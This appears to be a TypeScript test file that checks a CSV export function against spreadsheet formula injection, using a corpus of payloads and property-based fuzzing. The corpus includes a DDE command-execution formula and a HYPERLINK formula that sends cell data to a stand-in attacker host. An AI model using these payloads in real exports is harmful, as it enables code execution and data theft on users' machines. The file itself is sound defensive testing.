import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, csvLine } from './csv.ts'

/** What people and thieves have put into cells. */
const corpus = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"ok")',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  "''\"=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'x;=1+1',
  'x,=1+1',
  'x\t=1+1',
  'x|=1+1',
  'x"=1+1',
  'x";=1+1',
  'x","=1+1',
  'x\n=1+1',
  'x\r\n"=1+1',
  'x; =1+1',
  'x;\'"=1+1',
  'x =1+1',
  'x;\u200b＝1',
  '\u0000=1',
  'x\u202e=1',
  '{"n":-5}',
]

/** What a spreadsheet makes of the file, if it splits cells at this sign. Quotes hold only where a cell begins with one. */
function cellsOf(text: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  let begun = false
  const end = (): void => {
    rows.at(-1)?.push(cell)
    cell = ''
    begun = false
  }
  for (let n = 0; n < text.length; n++) {
    const sign = text[n] as string
    if (quoted && sign === '"' && text[n + 1] === '"') {
      cell += '"'
      n++
    } else if (sign === '"' && (quoted || !begun)) {
      quoted = !quoted
      begun = true
    } else if (!quoted && sign === separator) end()
    else if (!quoted && sign === '\n') {
      end()
      rows.push([])
    } else if (quoted || sign !== '\r') {
      cell += sign
      begun = true
    }
  }
  return rows.slice(0, -1)
}

const formula = /^[\s\u200b\ufeff"]*[=+\-@＝＋－＠]/
const separators = [',', ';', '\t', '|', ':']

const noFormulaIn = (text: string): void => {
  for (const separator of separators)
    for (const cell of cellsOf(text, separator).flat()) expect(cell, `${JSON.stringify(text)} by ${separator}`).not.toMatch(formula)
}

describe('AU-3 X-26 the export as CSV', () => {
  it.each(corpus)('AU-3 makes no formula of %j, whichever sign separates cells', (value) => {
    noFormulaIn(csvLine(['a', value, 'b']))
    noFormulaIn(csvLine([value]))
  })

  it('AU-3 keeps one line for each record, and nothing that steers a terminal', () => {
    for (const value of corpus) {
      expect(csvLine([value]).split(/[\r\n]/)).toHaveLength(3)
      expect(csvCell(value)).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u)
    }
  })

  it('AU-3 leaves ordinary words as they are', () => {
    for (const value of [
      'Lost phone - called back at 10:30',
      '2027-03-01T09:00:00.000Z',
      '2001:db8::1',
      'a = b?'.replace(' =', ':'),
      'O’Neil, "Pat"',
    ])
      expect(cellsOf(csvLine([value]), ',')).toEqual([[value]])
    expect(csvLine([1, undefined, 'x'])).toBe('"1","","x"\r\n')
  })

  it('AU-3 makes no formula of anything', () => {
    const parts = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '"',
      "'",
      ',',
      ';',
      '\t',
      ' ',
      '\n',
      '\r',
      '|',
      ':',
      'a',
      '1',
      '\u200b',
      '\ufeff',
    )
    fc.assert(
      fc.property(fc.array(fc.oneof(parts, fc.string()), { maxLength: 8 }), (texts) => noFormulaIn(csvLine(['a', texts.join(''), 'b']))),
      { numRuns: 3000 },
    )
  })
})
